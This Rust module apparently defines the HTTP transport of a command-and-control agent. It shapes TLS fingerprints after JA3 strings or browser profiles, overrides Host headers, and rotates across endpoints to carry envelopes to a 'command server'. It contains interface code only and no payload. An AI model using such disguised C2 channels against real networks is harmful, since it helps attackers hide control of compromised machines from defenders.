//! Fingerprinted HTTP transport.
//!
//! One envelope goes out as the body of an HTTP POST and one envelope comes
//! back in the response. The transport owns everything about *how* that
//! request looks on the wire:
//!
//! 1. **Protocol variant**: HTTP/1.1, HTTP/2 (TLS or cleartext), HTTP/3
//! 2. **TLS fingerprint**: cipher suite, group and version selection shaped
//!    after a JA3 string or a named browser profile
//! 3. **Request surface**: User-Agent, Host override, forward proxy
//! 4. **Endpoint rotation**: round-robin or failover across candidate URLs
//!
//! ## Architecture
//!
//! ```text
//! ┌────────────────────────────────────────────────┐
//! │  Transport trait (send / set_secret / secret)  │
//! ├────────────────────────────────────────────────┤
//! │  HttpTransport (reqwest client, URL rotation)  │
//! ├────────────────────────────────────────────────┤
//! │  TLS shaping (rustls provider, ALPN, verifier) │
//! ├────────────────────────────────────────────────┤
//! │  ConnectionProfile (validated configuration)   │
//! └────────────────────────────────────────────────┘
//! ```
//!
//! The transport never retries; retry policy belongs to the agent session.

mod client;
pub mod fingerprint;
pub mod hello;
mod profile;
mod tls;

pub use client::HttpTransport;
pub use fingerprint::{Fingerprint, Ja3, Parrot, TlsShape};
pub use profile::{ConnectionProfile, Protocol, TlsVerification, UrlPolicy, DEFAULT_USER_AGENT};

use async_trait::async_trait;

use crate::envelope::Envelope;
use crate::error::Result;
use crate::pake::Psk;

/// Content type of every request and response body.
pub const CONTENT_TYPE: &str = "application/octet-stream";

/// A request/response channel to the command server.
#[async_trait]
pub trait Transport: Send + Sync {
    /// Deliver one envelope and return the server's answer.
    ///
    /// Exactly one attempt is made against the next candidate URL.
    async fn send(&self, envelope: &Envelope) -> Result<Envelope>;

    /// Install the pre-shared secret.
    fn set_secret(&self, secret: Psk);

    /// The installed pre-shared secret, if any.
    fn secret(&self) -> Option<Psk>;

    /// Move on to the next candidate URL.
    fn rotate(&self) {}
}
